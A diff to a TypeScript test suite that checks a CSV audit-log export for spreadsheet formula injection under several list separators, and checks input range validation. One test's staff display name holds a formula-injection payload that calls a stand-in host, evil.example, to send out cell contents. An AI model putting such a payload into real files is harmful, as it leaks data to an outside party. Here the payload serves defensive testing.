@@ -179,6 +179,45 @@ describe('the audit log', () => {
     );
   });
 
+  it('runs no formula in a spreadsheet that splits on semicolons or tabs (Excel in Russian or Kazakh)', async () => {
+    // An admin names a colleague so; the inspector opens the file in an Excel whose list separator
+    // is ";", where a quote in the middle of a line protects nothing.
+    const named = await t.app.caller({ kind: 'system' }).staff.create({
+      username: 'semicolon',
+      displayName: 'Ким; =HYPERLINK("http://evil.example/?"&A1);\t+1+1,@SUM(1)',
+      password: 'a long enough password',
+      roles: ['registrar'],
+    });
+    await write(
+      { kind: 'staff', accountId: named.id, name: 'semicolon', roles: ['registrar'] },
+      t.clock.now(),
+      'export.semicolon',
+      4350,
+    );
+    const file = await admin.audit.export.mutate({ patientId: 4350 });
+    const lines = file.csv
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n');
+    for (const separator of [',', ';', '\t'])
+      for (const line of lines)
+        for (const cell of line.split(separator))
+          expect(cell.replace(/^[\s"]+/, ''), `split on ${JSON.stringify(separator)}`).not.toMatch(
+            /^[=+\-@]/,
+          );
+  });
+
+  it('refuses a patient id or a period no log can hold with a clear error, not a server fault', async () => {
+    for (const input of [
+      { patientId: 2 ** 40 },
+      { staffAccountId: 2 ** 40 },
+      { from: new Date('0001-01-01T00:00:00Z'), to: new Date(8.64e15) },
+    ]) {
+      expect((await failure(admin.audit.entries.query(input))).code).toBe('BAD_REQUEST');
+      expect((await failure(admin.audit.export.mutate(input))).code).toBe('BAD_REQUEST');
+    }
+  });
+
   it('carries no IIN or phone of the patients it names', async () => {
     const iin = makeIin('1990-07-21', 'male');
     const patient = await registerPatient(t.app, ++nextUser, { iin, sex: 'male', birthDate: '1990-07-21' });
